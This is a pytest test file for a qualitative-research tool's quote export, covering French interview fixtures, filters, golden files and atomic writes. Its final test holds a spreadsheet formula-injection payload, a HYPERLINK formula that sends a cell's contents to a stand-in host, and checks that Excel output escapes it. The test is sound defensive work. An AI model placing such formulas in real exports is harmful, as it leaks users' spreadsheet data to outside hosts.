"""``qcode export quotes``: selection, Markdown/CSV/JSON rendering, filters, atomic files.

Golden files live in ``tests/fixtures/golden/quotes/``. After an intended change of the output,
regenerate them with::

    QCODE_REGENERATE_GOLDEN=1 python -m pytest tests/test_export_quotes.py tests/test_iramuteq.py

(the variable is read when this module is imported, because conftest hides QCODE_* variables
from the tests themselves), then review the diff of the golden files.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from qcode import coding
from qcode.codebook import Codebook, load_valid
from qcode.codebook_sync import sync
from qcode.errors import NotFoundError, QcodeError, UsageError, ValidationError
from qcode.fileutil import write_atomic
from qcode.project import Project
from qcode.project import load as load_project
from qcode.reports import quotes as lib
from qcode.store import Store
from qcode.store import codings as cq
from qcode.store import transcripts as tq
from tests.conftest import FIXTURES, REPO, qcode

REGENERATE = os.environ.get("QCODE_REGENERATE_GOLDEN") == "1"
GOLDEN = FIXTURES / "golden" / "quotes"

# --- the small fixture project ------------------------------------------------------------------

CODEBOOK = """\
name: Petit livre de codes
themes:
  - id: liens
    label: Liens sociaux
    description: Ce que l'initiative produit entre voisins.
    codes:
      - id: entraide
        label: Entraide
        description: Les coups de main entre voisins, petits et grands.
        key: e
        codes:
          - id: courses
            label: Courses et commissions
            description: Faire les courses pour quelqu'un qui ne peut pas.
      - id: fêtes
        label: Fêtes et repas
        description: La fête de la cour, les repas partagés.
  - id: gouvernance
    label: Gouvernance
    description: Qui décide, et comment.
    codes:
      - id: bureau
        label: Le bureau
        description: Le bureau de l'association et ses réunions.
"""

E01 = """\
Entretien E01 — Les Amis de la Cour
Date : 5 novembre 2021

[00:00:05] E : Comment ça a commencé, l'entraide ?

[00:00:12] Karim : Euh… au début, c'est le confinement. Josiane, au 6e, elle pouvait plus \
descendre. Donc je monte, je fais ses courses. [rires] On s’entraide, c'est tout.

[00:01:02] E : Et les fêtes ?

[00:01:09] Karim : La fête de la cour, c'est *le* moment. Tout le monde descend — les jeunes, \
les vieux — et on mange ensemble, xxx / ben voilà, c'est c'est <la> fête_de_la_cour.

[00:02:30] E : Qui décide, dans l'association ?

[00:02:41] Karim : Le bureau, le bureau décide. Mais la vraie décision, c'est à la réunion du \
lundi.
"""

E02 = """\
Enquêtrice : Qu'est-ce que ça a changé pour vous ?

Hélène : Je connais mes voisins, maintenant. Avant, la cour, on la traversait vite.

1. Les courses, 2. le ménage : Fatoumata m'a aidée # deux fois par semaine.

Enquêtrice : Et l'association ?

Hélène : On a une AG en septembre, dans le square. Le bureau, je n'y vais pas.
"""

ATTRIBUTES = """\
id,participant,initiative,role,age_band,interviewer
E01,Karim,amis de la cour,porteur,40-49,Yanis Benali
E02,Hélène,Les Ailes (17e),membre élue,70-79,Sophie Laurent
"""


def build_small_project(root: Path) -> Path:
    """Two transcripts with accents, a three-level codebook, manual and keyword codings by
    two coders and the keyword coder, memos on codings, interviewer questions before quotes."""
    from qcode.ingest.pipeline import ingest
    from qcode.project import init

    init(root, name="Petite étude")
    (root / "codebooks" / "codebook.yaml").write_text(CODEBOOK, encoding="utf-8")
    (root / "transcripts" / "E01.txt").write_text(E01, encoding="utf-8")
    (root / "transcripts" / "E02.md").write_text(E02, encoding="utf-8")
    (root / "transcripts" / "attributes.csv").write_text(ATTRIBUTES, encoding="utf-8")
    project = load_project(root)
    store = Store.open(project.store_location)
    report = ingest(project, store)
    assert report.ok, report.errors
    book = load_valid(root / project.codebook)
    sync(store, book)

    def tag(tid: str, quote: str | None, codes: list[str], coder: str, origin: str = "manual",
            unit: str | None = None) -> int:
        passage = coding.resolve(store, tid, unit, quote=quote)
        result = coding.tag(store, book, passage, codes, coder, origin)
        return (result.created or result.existing)[0]

    courses = tag("E01", "Donc je monte, je fais ses courses.", ["courses"], "alice")
    coding.add_memo(store, "coding", str(courses), "Premier geste d'entraide : *toujours* "
                    "les courses.", "alice")
    tag("E01", "On s’entraide, c'est tout.", ["entraide"], "alice")
    tag("E01", "On s’entraide, c'est tout.", ["entraide"], "bob")
    tag("E01", None, ["fêtes"], "bob", unit="4")
    bureau = tag("E01", "Le bureau, le bureau décide.", ["bureau"], "qcode-keywords",
                 "keyword")
    with store.write() as conn:
        cq.set_memo(conn, bureau, "Suggestion acceptée automatiquement.")
    tag("E02", None, ["entraide"], "qcode-keywords", "keyword", unit="2")
    tag("E02", "Le bureau, je n'y vais pas.", ["bureau"], "alice")
    store.close()
    return root


@pytest.fixture
def small(tmp_path: Path) -> Path:
    return build_small_project(tmp_path / "petite")


def opened(root: Path) -> tuple[Project, Store, Codebook]:
    project = load_project(root)
    store = Store.open(project.store_location)
    book = load_valid(root / project.codebook)
    return project, store, book


def check_golden(name: str, data: str | bytes) -> None:
    """Compare with ``GOLDEN/name`` byte for byte (or rewrite it when regenerating)."""
    path = GOLDEN / name
    raw = data.encode("utf-8") if isinstance(data, str) else data
    if REGENERATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        return
    assert path.is_file(), f"missing golden file {path}: run with QCODE_REGENERATE_GOLDEN=1"
    expected = path.read_bytes()
    if raw != expected:
        assert raw.decode("utf-8") == expected.decode("utf-8")  # a readable diff
        assert raw == expected


# --- reading the outputs back -------------------------------------------------------------------

_UNESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")


def md_unescape(text: str) -> str:
    return _UNESCAPE.sub(r"\1", text)


def md_blocks(md: str) -> list[str]:
    """Every blockquote of a Markdown text, its ``> `` prefixes removed."""
    blocks: list[str] = []
    current: list[str] | None = None
    for line in md.split("\n"):
        if line.startswith(">"):
            current = current if current is not None else []
            current.append(line[2:] if line.startswith("> ") else line[1:])
        elif current is not None:
            blocks.append("\n".join(current))
            current = None
    if current is not None:
        blocks.append("\n".join(current))
    return blocks


_QUOTE_LINE = re.compile(r"« (?P<quote>.*) » (?P<attribution>[^»]*)", re.DOTALL)


def md_quotes(md: str) -> list[tuple[str, str]]:
    """(quote, attribution) of every quote block (without --context), unescaped."""
    out = []
    for block in md_blocks(md):
        m = _QUOTE_LINE.fullmatch(md_unescape(block))
        assert m is not None, block
        out.append((m["quote"], m["attribution"]))
    return out


def csv_rows(data: str | bytes, *, excel: bool = False) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))


def hms(ms: int | None) -> str:
    if ms is None:
        return ""
    s = ms // 1000
    return f"{s // 3600}:{s // 60 % 60:02d}:{s % 60:02d}"


# --- the whole bundled study ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def study(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the repository's study, after ``qcode run`` (the repo's store is left alone)."""
    root = tmp_path_factory.mktemp("study")
    shutil.copy(REPO / "qcode.yaml", root / "qcode.yaml")
    shutil.copytree(REPO / "transcripts", root / "transcripts")
    shutil.copytree(REPO / "codebooks", root / "codebooks")
    result = qcode("run", "--format", "json", cwd=root, timeout=600)
    assert result.returncode == 0, result.stderr
    return root


def test_every_quote_of_the_study_is_verbatim_and_attributed(study: Path) -> None:
    for fmt in ("md", "csv", "json"):
        result = qcode("export", "quotes", "--format", fmt, cwd=study)
        assert result.returncode == 0, result.stderr
        assert result.stderr.startswith(f"wrote exports/quotes.{fmt} (")
    project = load_project(study)
    store = Store.open(project.store_location)
    with store.read() as conn:
        records = {tid: tq.load(conn, tid) for tid in tq.transcript_ids(conn)}
        codings = cq.query(conn)
    store.close()
    assert len(codings) > 1000

    def expected(tid: str, start: int) -> dict[str, Any]:
        rec = records[tid]
        assert rec is not None
        turn = next(t for t in rec.turns if start < t.end)
        attrs = {k: v for k, (v, _) in rec.attributes.items()}
        attribution = f"({attrs['role']}, {attrs['initiative']}) — {tid}, tour {turn.idx}"
        if turn.start_ms is not None:
            attribution += f", {hms(turn.start_ms)}"
        return {"turn": turn.idx, "speaker": turn.speaker, "time": hms(turn.start_ms),
                "role": attrs["role"], "initiative": attrs["initiative"],
                "attribution": attribution}

    exports = study / "exports"
    rows_csv = csv_rows((exports / "quotes.csv").read_text(encoding="utf-8"))
    rows_json = json.loads((exports / "quotes.json").read_text(encoding="utf-8"))
    for rows in (rows_csv, rows_json):
        assert len(rows) == len(codings)
        assert Counter(int(r["coding_id"]) for r in rows) == Counter(c["id"] for c in codings)
        for r in rows:
            rec = records[r["transcript"]]
            assert rec is not None
            start, end = int(r["start"]), int(r["end"])
            assert r["quote"] == rec.text[start:end]
            want = expected(r["transcript"], start)
            assert int(r["turn"]) == want["turn"]
            assert (r["time"] or "") == want["time"]
            assert (r["role"], r["initiative"], r["speaker"]) == (
                want["role"], want["initiative"], want["speaker"])
            assert r["attribution"] == want["attribution"]

    md = (exports / "quotes.md").read_text(encoding="utf-8")
    passages = {(c["code_id"], c["transcript_id"], c["start"], c["end"]) for c in codings}
    want_md = Counter((records[t].text[s:e], expected(t, s)["attribution"])  # type: ignore[union-attr]
                      for _code, t, s, e in passages)
    assert Counter(md_quotes(md)) == want_md


def test_study_exports_are_deterministic_and_match_stdout(study: Path) -> None:
    first = qcode("export", "quotes", "-f", "csv", "--out", "-", "--theme", "governance",
                  cwd=study)
    second = qcode("export", "quotes", "-f", "csv", "--out", "-", "--theme", "governance",
                   cwd=study)
    assert first.returncode == 0 and first.stderr == ""
    assert first.stdout == second.stdout and first.stdout.count("\n") > 50


def test_study_iramuteq_corpus(study: Path) -> None:
    """The IRaMuTeQ corpus of the study (here: this module already runs the study)."""
    result = qcode("export", "iramuteq", cwd=study)
    assert (result.returncode, result.stderr) == (
        0, "wrote exports/corpus-iramuteq.txt (40 texts)\n")
    corpus = (study / "exports" / "corpus-iramuteq.txt").read_text(encoding="utf-8")
    chunks = corpus[:-1].split("\n\n")
    assert len(chunks) == 40 and corpus.endswith("\n") and not corpus.endswith("\n\n")
    for chunk in chunks:
        first, *body = chunk.split("\n")
        assert re.fullmatch(r"\*\*\*\* \*id_[A-Z]{2}\d\d( \*[^\W_]+_[\w.\-]+)+", first), first
        assert "*initiative_" in first and "*role_" in first
        assert body and all(line and "*" not in line for line in body)


# --- golden files ------------------------------------------------------------------------------


def test_golden_markdown(small: Path) -> None:
    project, store, book = opened(small)
    check_golden("quotes.md", lib.export_quotes(project, store, book).data)
    check_golden("quotes-context.md",
                 lib.export_quotes(project, store, book, context=True).data)
    check_golden("quotes-clean.md", lib.export_quotes(project, store, book, clean=True).data)


def test_golden_csv_excel_json(small: Path) -> None:
    project, store, book = opened(small)
    check_golden("quotes.csv", lib.export_quotes(project, store, book, fmt="csv").data)
    excel = lib.export_quotes(project, store, book, fmt="csv", excel=True).data
    assert isinstance(excel, bytes)
    assert excel.startswith(b"\xef\xbb\xbfcoding_id;theme;")
    assert excel.count(b"\r\n") == 8  # header + 7 codings; quotes keep their own \n inside
    check_golden("quotes-excel.csv", excel)
    check_golden("quotes.json", lib.export_quotes(project, store, book, fmt="json").data)
    check_golden("quotes-context-clean.json",
                 lib.export_quotes(project, store, book, fmt="json", context=True,
                                   clean=True).data)


def test_small_exports_are_verbatim(small: Path) -> None:
    project, store, book = opened(small)
    with store.read() as conn:
        texts = {tid: tq.text_of(conn, tid) for tid in ("E01", "E02")}
    for data, excel in ((lib.export_quotes(project, store, book, fmt="csv").data, False),
                        (lib.export_quotes(project, store, book, fmt="csv", excel=True).data,
                         True)):
        rows = csv_rows(data, excel=excel)
        assert len(rows) == 7
        for r in rows:
            assert r["quote"] == texts[r["transcript"]][int(r["start"]):int(r["end"])]  # type: ignore[index]
    md = lib.export_quotes(project, store, book).data
    assert isinstance(md, str)
    quotes = md_quotes(md)
    assert len(quotes) == 6  # alice's and bob's identical passage is one quote
    multi = next(q for q, _ in quotes if q.startswith("Je connais"))
    assert "\n\n1. Les courses, 2. le ménage : Fatoumata m'a aidée # deux fois" in multi
    assert ("La fête de la cour, c'est *le* moment." in md_unescape(md)
            and r"c'est \*le\* moment" in md)
    attributions = [a for _, a in quotes]
    assert attributions[0] == "(porteur, amis de la cour) — E01, tour 2, 0:00:12"
    assert "(membre élue, Les Ailes (17e)) — E02, tour 2" in attributions  # no time: no comma


def test_markdown_shows_memos_and_order(small: Path) -> None:
    project, store, book = opened(small)
    md = lib.export_quotes(project, store, book).data
    assert isinstance(md, str)
    headings = [line for line in md.split("\n") if line.startswith("#")]
    assert headings == [
        "# Verbatims par thème — Petite étude", "## Liens sociaux", "### Entraide",
        "#### Courses et commissions", "### Fêtes et repas", "## Gouvernance",
        "### Le bureau"]
    assert r"*Mémo (alice) :* Premier geste d'entraide : \*toujours\* les courses." in md
    assert "*Mémo :* Suggestion acceptée automatiquement." in md
    assert "\n\n7" not in md and "6 verbatims, 2 entretiens." in md
    assert "Lecture nettoyée" not in md  # clean read is off by default


# --- filters ------------------------------------------------------------------------------------


def _ids(project: Project, store: Store, book: Codebook, **kw: Any) -> list[tuple[str, str, str]]:
    selection = lib.select_quotes(project, store, book, **kw)
    return [(r.code, r.transcript, r.coder) for r in selection.rows]


def test_filters(small: Path) -> None:
    project, store, book = opened(small)
    everything = _ids(project, store, book)
    assert everything == [
        ("entraide", "E01", "alice"), ("entraide", "E01", "bob"),
        ("entraide", "E02", "qcode-keywords"), ("courses", "E01", "alice"),
        ("fêtes", "E01", "bob"), ("bureau", "E01", "qcode-keywords"),
        ("bureau", "E02", "alice")]
    assert _ids(project, store, book, themes=["gouvernance"]) == [
        ("bureau", "E01", "qcode-keywords"), ("bureau", "E02", "alice")]
    assert [c for c, _, _ in _ids(project, store, book, codes=["Entraide"])] == [
        "entraide", "entraide", "entraide", "courses"]  # by label, with its sub-code
    assert _ids(project, store, book, codes=["courses"], themes=["gouvernance"]) == [
        ("courses", "E01", "alice"), ("bureau", "E01", "qcode-keywords"),
        ("bureau", "E02", "alice")]
    assert {t for _, t, _ in _ids(project, store, book, where=["role=Membre Élue"])} == {"E02"}
    assert _ids(project, store, book, where=["role=porteur", "initiative=les ailes (17e)"]) == []
    assert {t for _, t, _ in _ids(project, store, book,
                                  where=["role=porteur", "role=membre élue"])} == {"E01", "E02"}
    assert _ids(project, store, book, transcripts=["E02"], coders=["alice"]) == [
        ("bureau", "E02", "alice")]
    assert {c for _, _, c in _ids(project, store, book, origins=["keyword"])} == {
        "qcode-keywords"}
    assert {c for _, _, c in _ids(project, store, book, origins=["manual"])} == {"alice", "bob"}
    assert _ids(project, store, book, origins=["all"]) == everything


def test_empty_selection(small: Path) -> None:
    project, store, book = opened(small)
    where = ["role=porteur", "initiative=Les Ailes (17e)"]
    result = lib.export_quotes(project, store, book, where=where)
    assert result.count == 0
    assert result.data == (
        "# Verbatims par thème — Petite étude\n\n0 verbatim, 0 entretien. Sélection : role "
        "= porteur ; initiative = Les Ailes (17e).\n\nAucun verbatim ne correspond à la "
        "sélection.\n")
    rows = csv_rows(lib.export_quotes(project, store, book, fmt="csv", where=where).data)
    assert rows == []
    assert lib.export_quotes(project, store, book, fmt="json", where=where).data == "[]\n"


@pytest.mark.parametrize(("kw", "error", "message"), [
    ({"where": ["genre=femme"]}, UsageError,
     "unknown attribute 'genre' in --where (known attributes: age_band, initiative, "
     "interviewer, participant, role)"),
    ({"where": ["role=élu"]}, UsageError,
     "no transcript has role='élu' (values of role: membre élue, porteur)"),
    ({"where": ["role"]}, UsageError, "invalid --where 'role'"),
    ({"themes": ["bureau"]}, UsageError, "'bureau' (Le bureau) is a code, not a theme"),
    ({"codes": ["burreau"]}, NotFoundError, "no code 'burreau' in the codebook"),
    ({"coders": ["carol"]}, UsageError,
     "no codings by 'carol' (coders: alice, bob, qcode-keywords)"),
    ({"origins": ["auto"]}, UsageError, "unknown origin 'auto'"),
    ({"transcripts": ["E03"]}, NotFoundError, "no transcript 'E03' in the store"),
])
def test_filter_errors(small: Path, kw: dict[str, Any], error: type[QcodeError],
                       message: str) -> None:
    project, store, book = opened(small)
    with pytest.raises(error) as info:
        lib.select_quotes(project, store, book, **kw)
    shown = info.value.message + (f" ({info.value.hint})" if info.value.hint else "")
    assert shown.startswith(message)


def test_context_is_the_last_interviewer_turn_before(small: Path) -> None:
    project, store, book = opened(small)
    selection = lib.select_quotes(project, store, book, context=True)
    contexts = {(r.transcript, r.turn): r.context for r in selection.rows}
    ctx = contexts[("E01", 2)]
    assert ctx is not None and (ctx.turn, ctx.speaker, ctx.text, ctx.time) == (
        1, "E", "Comment ça a commencé, l'entraide ?", "0:00:05")
    ctx = contexts[("E02", 4)]
    assert ctx is not None and (ctx.turn, ctx.speaker, ctx.text) == (
        3, "Enquêtrice", "Et l'association ?")
    rows = json.loads(lib.export_quotes(project, store, book, fmt="json", context=True).data)
    assert [r["context_turn"] for r in rows] == [1, 1, 1, 1, 3, 5, 3]
    assert "context" not in json.loads(lib.export_quotes(project, store, book,
                                                         fmt="json").data)[0]


def test_clean_read_is_off_by_default_and_keeps_the_verbatim(small: Path) -> None:
    project, store, book = opened(small)
    plain = json.loads(lib.export_quotes(project, store, book, fmt="json").data)
    assert "clean_read" not in plain[0] and "quote_clean" not in plain[0]
    assert "clean_read" not in csv_rows(lib.export_quotes(project, store, book,
                                                          fmt="csv").data)[0]
    rows = json.loads(lib.export_quotes(project, store, book, fmt="json", clean=True).data)
    fete = next(r for r in rows if r["code"] == "fêtes")
    assert fete["clean_read"] is True
    assert fete["quote"].startswith("La fête de la cour, c'est *le* moment.")
    assert fete["quote_clean"].endswith("et on mange ensemble, voilà, c'est <la> "
                                        "fête_de_la_cour.")
    md = lib.export_quotes(project, store, book, clean=True).data
    assert isinstance(md, str) and "*Lecture nettoyée : hésitations" in md
    assert "> *Verbatim :* « La fête de la cour" in md


@pytest.mark.parametrize(("text", "clean"), [
    ("Ouais. Alors euh… comment ça a démarré. [rires] On me la pose souvent.",
     "Ouais. Alors comment ça a démarré. On me la pose souvent."),
    ("Ça c’est le truc qui m’a… qui m’a scotché.", "Ça c’est le truc qui m’a scotché."),
    ("Euh, je je pense que / bon, c'est la honte, hein… on va pas écrire",
     "Je pense que bon, c'est la honte, on va pas écrire"),
    ("Ben oui, on a fait ça avec Ben. xxx (…) Nous nous sommes vus.",
     "Oui, on a fait ça avec Ben. Nous nous sommes vus."),
    ("C’est un peu… [rires] c’est un peu cucul, mais [prénom] l’a dit [inaudible].",
     "C’est un peu cucul, mais [prénom] l’a dit."),
    ("Non, non, c'est pas ça, hein ?", "Non, c'est pas ça ?"),
])
def test_clean_read(text: str, clean: str) -> None:
    assert lib.clean_read(text) == clean


# --- attribution settings -----------------------------------------------------------------------


def _set_export(root: Path, setting: str) -> None:
    config = root / "qcode.yaml"
    config.write_text(config.read_text(encoding="utf-8") + f"\nexport:\n  {setting}\n",
                      encoding="utf-8")


def test_attribution_from_qcode_yaml(small: Path) -> None:
    _set_export(small, 'attribution: "{participant} ({speaker_role}) · {transcript} t. {turn} '
                       '· {time}"')
    project, store, book = opened(small)
    quotes = md_quotes(lib.export_quotes(project, store, book).data)  # type: ignore[arg-type]
    assert quotes[0][1] == "Karim (participant) · E01 t. 2 · 0:00:12"
    assert ("Hélène (participant) · E02 t. 2") in [a for _, a in quotes]


def test_unknown_placeholder_names_qcode_yaml(small: Path) -> None:
    _set_export(small, 'attribution: "({role}, {quartier}) — {transcript}"')
    project, store, book = opened(small)
    with pytest.raises(ValidationError) as info:
        lib.export_quotes(project, store, book)
    message = str(info.value)
    assert message.startswith(f"{small / 'qcode.yaml'}:")
    assert "export.attribution: unknown placeholder {quartier} (known: {theme}" in message
    assert "{initiative}" in message


@pytest.mark.parametrize(("parts", "values", "expected"), [
    ("({role}, {initiative}) — {transcript}, tour {turn}, {time}",
     {"role": "membre", "initiative": "x", "transcript": "T", "turn": "3", "time": ""},
     "(membre, x) — T, tour 3"),
    ("({role}, {initiative}) — {transcript}, tour {turn}, {time}",
     {"role": "", "initiative": "x", "transcript": "T", "turn": "3", "time": "0:01:02"},
     "(x) — T, tour 3, 0:01:02"),
    ("({role}, {initiative}) — {transcript}, tour {turn}",
     {"role": "", "initiative": "", "transcript": "T", "turn": "3"}, "T, tour 3"),
])
def test_fill_attribution(parts: str, values: dict[str, str], expected: str) -> None:
    import string

    parsed = [(lit, name) for lit, name, _, _ in string.Formatter().parse(parts)]
    assert lib.fill_attribution(parsed, values) == expected


# --- the command --------------------------------------------------------------------------------


def test_cli_stdout_and_default_files(small: Path) -> None:
    result = qcode("export", "quotes", "--out", "-", cwd=small)
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout == (GOLDEN / "quotes.md").read_text(encoding="utf-8")
    assert not (small / "exports" / "quotes.md").exists()
    result = qcode("export", "quotes", "--excel", cwd=small)
    assert (result.returncode, result.stderr) == (0, "wrote exports/quotes.csv (7 quotes)\n")
    written = small / "exports" / "quotes.csv"
    assert written.read_bytes() == (GOLDEN / "quotes-excel.csv").read_bytes()
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
    result = qcode("export", "quotes", "-f", "json", "--code", "bureau", "--coder", "alice",
                   "--origin", "manual", "-o", "out/b.json", cwd=small / "exports")
    assert (result.returncode, result.stderr) == (0, "wrote out/b.json (1 quote)\n")
    rows = json.loads((small / "exports" / "out" / "b.json").read_text(encoding="utf-8"))
    assert [(r["code"], r["coder"], r["quote"]) for r in rows] == [
        ("bureau", "alice", "Le bureau, je n'y vais pas.")]


def test_cli_options_reach_the_library(small: Path) -> None:
    result = qcode("export", "quotes", "--context", "--clean", "--theme", "liens", "--where",
                   "role=porteur", "-t", "E01", "--origin", "manual", "-o", "-", cwd=small)
    assert (result.returncode, result.stderr) == (0, "")
    md = result.stdout
    assert md.count("> *Question (E, tour 1) :*") == 2 and "*Lecture nettoyée" in md
    assert md.count("> *Question (E, tour 3) :* « Et les fêtes ? »") == 1
    assert "E02" not in md and "Gouvernance" not in md
    assert ("Sélection : thème liens ; entretien E01 ; role = porteur ; origine manual."
            in md_unescape(md))
    result = qcode("export", "quotes", "-f", "csv", "--clean", "-o", "-", cwd=small)
    header = result.stdout.split("\n", 1)[0].split(",")
    assert header[header.index("quote"):header.index("quote") + 4] == [
        "quote", "quote_clean", "clean_read", "attribution"]


def test_cli_usage_errors(small: Path) -> None:
    result = qcode("export", "quotes", "--format", "md", "--excel", cwd=small)
    assert (result.returncode, result.stderr) == (
        2, "error: --excel applies to CSV only (drop --format or use csv)\n")
    result = qcode("export", "quotes", "--where", "genre=f", cwd=small)
    assert result.returncode == 2
    assert result.stderr == ("error: unknown attribute 'genre' in --where (known attributes: "
                             "age_band, initiative, interviewer, participant, role)\n")
    result = qcode("export", "quotes", "--origin", "auto", cwd=small)
    assert result.returncode == 2 and "'auto' is not one of" in result.stderr


def test_failed_export_keeps_the_previous_file(small: Path) -> None:
    assert qcode("export", "quotes", cwd=small).returncode == 0
    target = small / "exports" / "quotes.md"
    before = target.read_bytes()
    _set_export(small, 'attribution: "{transcript} {inconnu}"')
    result = qcode("export", "quotes", cwd=small)
    assert result.returncode == 3
    assert "qcode.yaml:" in result.stderr and "unknown placeholder {inconnu}" in result.stderr
    assert target.read_bytes() == before
    assert sorted(p.name for p in target.parent.iterdir()) == ["quotes.md"]


def test_crash_while_replacing_keeps_the_previous_file(
        small: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project, store, book = opened(small)
    first = lib.write_quotes(project, store, book)
    assert first.path == small / "exports" / "quotes.md"
    before = first.path.read_bytes()

    def crash(src: Any, dst: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(QcodeError, match=r"cannot write .*quotes\.md: disk full"):
        lib.write_quotes(project, store, book, themes=["gouvernance"])
    assert first.path.read_bytes() == before
    assert [p.name for p in first.path.parent.iterdir()] == ["quotes.md"]


def test_out_is_a_folder_or_unwritable(small: Path) -> None:
    (small / "exports" / "quotes.md").mkdir(parents=True)
    result = qcode("export", "quotes", cwd=small)
    assert result.returncode == 2
    assert result.stderr.startswith("error: ") and "quotes.md is a folder" in result.stderr
    result = qcode("export", "quotes", "--out", "/proc/nowhere/q.md", cwd=small)
    assert result.returncode == 1
    assert result.stderr.startswith("error: cannot write /proc/nowhere/q.md: ")


def test_write_atomic(tmp_path: Path) -> None:
    target = tmp_path / "a" / "b" / "out.txt"
    assert write_atomic(target, "é\n") == target
    assert target.read_bytes() == "é\n".encode()
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    write_atomic(target, b"\xef\xbb\xbfx\r\n", mode=0o644)
    assert target.read_bytes() == b"\xef\xbb\xbfx\r\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o644
    assert [p.name for p in target.parent.iterdir()] == ["out.txt"]


def test_excel_cells_never_run_as_formulas() -> None:
    rows = [{"quote": '=HYPERLINK("http://x.example/?"&A1;"clic")', "memo": "+33 6 12",
             "speaker": "@nadia", "note": "- Oui, tiret de dialogue", "n": -3,
             "tab": "\t=1+1", "plain": "Une fête = du lien"}]
    cols = list(rows[0])
    excel = lib.render_csv(rows, cols, excel=True)
    assert isinstance(excel, bytes)
    cells = csv_rows(excel, excel=True)[0]
    assert cells["quote"] == "'" + rows[0]["quote"]
    assert (cells["memo"], cells["speaker"], cells["note"], cells["n"], cells["tab"]) == (
        "'+33 6 12", "'@nadia", "'- Oui, tiret de dialogue", "'-3", "'\t=1+1")
    assert cells["plain"] == "Une fête = du lien"  # only a formula's first character counts
    plain = csv_rows(lib.render_csv(rows, cols))[0]  # CSV for scripts stays verbatim
    assert plain["quote"] == rows[0]["quote"] and plain["n"] == "-3"
